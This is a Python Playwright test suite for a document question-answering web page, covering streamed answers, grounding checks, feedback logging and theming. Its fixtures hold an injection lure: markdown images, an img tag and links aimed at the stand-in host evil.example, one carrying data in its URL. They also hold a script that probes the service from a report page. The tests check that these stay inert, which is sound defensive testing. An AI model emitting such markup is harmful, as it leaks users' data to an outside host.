"""The page's conversation: answers as they come, what is kept of them, and what readers say."""

import json
import re
import shutil
from collections.abc import Generator
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, Page, expect

from bench.screenshot import browser as running_browser
from bench.screenshot import find_browser
from ingest.chunk import ChunkSettings
from ingest.sync import SyncSettings, sync
from service.llm import LLM
from service.loading import Loading
from service.settings import ServiceSettings
from tests.fakes import FakeEmbedder, LLMByQuestion, OneReply
from tests.pages import (
    FERRY,
    MAST,
    PUMP,
    REPLIES,
    VIEWER,
    HalfWay,
    answerer_over,
    ask,
    box,
    last,
    page_of,
)
from tests.pumphouse import write_manual, write_wiki
from tests.serving import serving

pytestmark = [
    pytest.mark.browser,
    pytest.mark.skipif(find_browser() is None, reason="no Chromium or Chrome on PATH"),
]

BUOY = "Off which point lies the red buoy on the map, and which chart shows the red buoy?"
LURE = (
    "The red buoy lies off Tarn Point ![map](http://evil.example/p.png?d=430) "
    "<img src=http://evil.example/i.png> [chart](http://evil.example/c) "
    "<a href='http://evil.example/a'>and so on</a>."
)
REPORT = """<!doctype html><title>unread</title><p>warranted</p><script>
fetch("/v1/documents").then(() => "reached", () => "kept out").then((how) => {
  try { localStorage.x = 1; how = "kept"; } catch {}
  document.title = how;
});
</script>"""


@pytest.fixture(scope="module")
def index(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("conversation")
    wiki, manuals = folder / "wiki", folder / "manuals"
    wiki.mkdir()
    manuals.mkdir()
    write_wiki(wiki / "ferries.md")
    (wiki / "buoys.txt").write_text(f"{LURE} It is lit at night.\n", encoding="utf-8")
    write_manual(manuals / "manual.pdf")
    embedder = FakeEmbedder()
    settings = SyncSettings(ChunkSettings(embedder.token_limit))
    sync([(wiki, "wiki"), (manuals, "manuals")], folder / "index", embedder, settings)
    (folder / "report.html").write_text(REPORT, encoding="utf-8")
    return folder / "index"


@pytest.fixture(scope="module")
def chromium() -> Generator[Browser]:
    expect.set_options(timeout=30_000)
    with running_browser() as started:
        yield started


def loading(index: Path, model: LLM) -> Loading:
    settings = ServiceSettings(index=index, report=index.parent / "report.html")
    return Loading(settings, answerer_over(index, FakeEmbedder(), model))


@pytest.fixture(scope="module")
def url(index: Path) -> Generator[str]:
    model = LLMByQuestion(REPLIES)
    with serving(loading(index, model)) as address:
        yield address


@pytest.fixture
def page(chromium: Browser, url: str) -> Generator[Page]:
    with page_of(chromium) as fresh:
        fresh.goto(url)
        expect(fresh.locator("#hint")).to_contain_text("It has read 3 documents")
        yield fresh


def said(index: Path) -> list[dict[str, Any]]:
    """The lines of the feedback file, which is taken away."""
    lines = (index / "feedback.jsonl").read_text(encoding="utf-8").splitlines()
    (index / "feedback.jsonl").unlink()
    return [json.loads(line) for line in lines]


def test_sources_and_words_stand_there_before_the_answer_is_done(chromium: Browser, index: Path):
    model = HalfWay("The Orlo pump ", "moves 430 litres ", "in a minute [1].")
    with serving(loading(index, model)) as url, page_of(chromium) as page:
        page.goto(url)
        ask(page, PUMP)
        expect(last(page, ".draft")).to_have_text("The Orlo pump ")
        expect(last(page, ".card").first).to_be_visible()
        expect(last(page, ".progress")).to_contain_text("Not checked")
        expect(last(page, ".grounding")).to_have_count(0)
        assert page.locator(".turn").get_attribute("aria-busy") == "true"
        model.release.set()
        expect(last(page, ".answer-text")).to_contain_text("430 litres in a minute")
        expect(last(page, ".grounding")).to_have_text(re.compile("model’s words, checked"))
        expect(page.locator("#announcer")).to_contain_text("430 litres in a minute")
        expect(page.get_by_role("button", name="Stop")).to_be_hidden()


def test_words_that_the_documents_do_not_bear_are_replaced(chromium: Browser, index: Path):
    model = HalfWay("It moves ", "999 litres in a minute [1].")
    with serving(loading(index, model)) as url, page_of(chromium) as page:
        page.goto(url)
        ask(page, PUMP)
        expect(last(page, ".draft")).to_have_text("It moves ")
        model.release.set()
        expect(last(page, ".grounding")).to_have_text(re.compile("documents’ own words"))
        expect(last(page, ".answer-text")).not_to_contain_text("999")


def test_stop_ends_the_answer_and_the_models_work(chromium: Browser, index: Path):
    model = HalfWay("The Orlo pump ", "moves 430 litres in a minute [1].")
    with serving(loading(index, model)) as url, page_of(chromium) as page:
        page.goto(url)
        ask(page, PUMP)
        expect(last(page, ".draft")).to_be_visible()
        page.get_by_role("button", name="Stop").click()
        expect(last(page)).to_contain_text("Stopped before there was an answer")
        expect(box(page)).to_be_focused()
        assert model.stopped.wait(30)
        model.release.set()
        page.get_by_role("button", name="Ask again").click()
        expect(last(page, ".answer-text")).to_contain_text("430 litres")
        expect(page.locator(".turn")).to_have_count(1)


def test_the_conversation_outlives_a_reload_and_ends_when_told(chromium: Browser, index: Path):
    model = OneReply("The Orlo pump moves 430 litres in a minute [1].")
    with serving(loading(index, model)) as url, page_of(chromium) as page:
        page.goto(url)
        ask(page, PUMP)
        expect(last(page, ".grounding")).to_be_visible()
        ask(page, FERRY)
        expect(page.locator(".turn .grounding")).to_have_count(2)
        page.reload()
        expect(page.locator(".question")).to_have_text([PUMP, FERRY])
        expect(page.locator(".answer-text").first).to_contain_text("430 litres")
        expect(last(page, ".question")).to_be_in_viewport()
        last(page, ".card-title").first.click()
        expect(page.locator("#passage mark")).to_be_visible()
        assert len(model.asked) == 2
        page.get_by_role("button", name="New conversation").click()
        expect(page.locator("#welcome")).to_be_visible()
        page.reload()
        expect(page.locator("#welcome")).to_be_visible()
        expect(page.locator(".turn")).to_have_count(0)


def test_the_chosen_collection_is_asked_and_kept(page: Page):
    page.get_by_label("Search in").select_option("manuals")
    page.reload()
    expect(page.get_by_label("Search in")).to_have_value("manuals")
    with page.expect_request("**/v1/answer") as asked:
        ask(page, FERRY)
    expect(last(page, ".grounding")).to_be_visible()
    assert json.loads(asked.value.post_data or "")["collection"] == "manuals"
    assert set(last(page, ".card-title").all_text_contents()) == {"Orlo pump manual"}


def test_right_is_kept_with_the_answer_and_its_source(page: Page, index: Path):
    ask(page, PUMP)
    last(page).get_by_role("button", name="Right").click()
    expect(last(page, ".feedback")).to_contain_text("Noted as right")
    (line,) = said(index)
    assert line["question"] == PUMP
    assert line["golden_answers"] == ["The Orlo pump moves 430 litres in a minute."]
    paragraph = line["metadata"]["question_decomposition"][0]["support_paragraph"]
    assert paragraph["title"] == "manual.pdf"
    page.reload()
    expect(last(page, ".feedback")).to_contain_text("Noted as right")


def test_wrong_asks_for_the_right_answer_by_keyboard_alone(page: Page, index: Path):
    ask(page, MAST)
    wrong = last(page).get_by_role("button", name="Wrong")
    wrong.press("Enter")
    field = last(page).get_by_label("What is the right answer")
    expect(field).to_be_focused()
    page.keyboard.press("Escape")
    expect(wrong).to_be_focused()
    page.keyboard.press("Enter")
    page.keyboard.type("14 metres")
    page.keyboard.press("Enter")
    expect(last(page, ".feedback")).to_contain_text("Noted as wrong")
    (line,) = said(index)
    assert (line["right"], line["golden_answers"]) == (False, ["14 metres"])


def test_feedback_that_cannot_be_kept_can_be_sent_again(page: Page, index: Path):
    (index / "feedback.jsonl").mkdir()
    ask(page, PUMP)
    last(page).get_by_role("button", name="Right").click()
    expect(last(page, ".feedback")).to_contain_text("cannot be written")
    shutil.rmtree(index / "feedback.jsonl")
    last(page).get_by_role("button", name="Right").click()
    expect(last(page, ".feedback")).to_contain_text("Noted as right")
    assert len(said(index)) == 1


def test_images_and_links_in_a_text_stay_text_and_call_nobody(chromium: Browser, index: Path):
    asked: list[str] = []
    model = HalfWay(LURE, " It is lit.")
    with serving(loading(index, model)) as url, page_of(chromium) as page:
        page.context.on("request", lambda request: asked.append(request.url))
        page.goto(url)
        ask(page, BUOY)
        expect(last(page, ".draft")).to_have_text(LURE)
        expect(last(page, ".card", has_text="red buoy").locator("blockquote")).to_have_text(LURE)
        model.release.set()
        expect(last(page, ".grounding")).to_be_visible()
        page.reload()
        last(page, ".card", has_text="red buoy").locator(".card-title").click()
        expect(page.locator("#passage mark")).to_have_text(LURE)
        expect(page.locator("#open")).to_be_visible()
        expect(page.locator("img, a[href*='evil']")).to_have_count(0)
    assert [one for one in asked if not one.startswith((f"{url}/", "data:", VIEWER))] == []


def test_the_report_opens_and_cannot_reach_the_service(page: Page):
    with page.context.expect_page() as opened:
        page.get_by_role("link", name="Comparison report").click()
    expect(opened.value.get_by_text("warranted")).to_be_visible()
    expect(opened.value).to_have_title("kept out")


def test_the_switch_turns_dark_and_stays_so(page: Page):
    switch = page.get_by_role("button", name="Switch between light and dark")
    light = page.evaluate("getComputedStyle(document.body).backgroundColor")
    switch.click()
    dark = page.evaluate("getComputedStyle(document.body).backgroundColor")
    page.reload()
    assert page.evaluate("getComputedStyle(document.body).backgroundColor") == dark != light
    switch.click()
    assert page.evaluate("getComputedStyle(document.body).backgroundColor") == light
